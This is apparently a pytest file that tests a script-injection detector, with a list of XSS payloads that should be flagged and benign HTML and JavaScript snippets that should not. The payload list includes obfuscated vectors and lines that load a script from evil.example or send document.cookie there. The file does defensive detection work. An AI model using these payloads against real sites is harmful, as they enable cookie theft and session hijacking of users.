import pytest

from streams.screening.attacks.script import SCRIPT

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(document.cookie)</ScRiPt>",
    "\"><script>alert('xss')</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=confirm(1)>",
    "<p/onclick=prompt(1)>x",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<form><button formaction=javascript:alert(1)>x",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    '" autofocus onfocus=alert(1) x="',
    "';alert(1)//",
    "'-alert(1)-'",
    "data:text/html,<script>alert(1)</script>",
    '<div style="width:expression(alert(1))">',
    "eval(atob('YWxlcnQoMSk='))",
    "top['al'+'ert'](1)",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]
ORDINARY = [
    "what is a <script> tag for?",
    '<button onclick="addToCart(42)">Buy</button>',
    '<form onsubmit="return check(this)"><input name="q"></form>',
    '<body onload="init()">',
    '<a href="javascript:void(0)">Top</a>',
    '<script src="/static/app.js"></script>',
    "<script>const el = document.getElementById('a');</script>",
    'document.cookie = "theme=dark";',
    "alert('Saved')",
    "setTimeout(() => update(), 1000)",
    "learn javascript: the good parts",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks(text: str) -> None:
    assert {each.entity for each in SCRIPT.find(text)} == {"SCRIPT_INJECTION"}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_texts(text: str) -> None:
    assert SCRIPT.find(text) == []
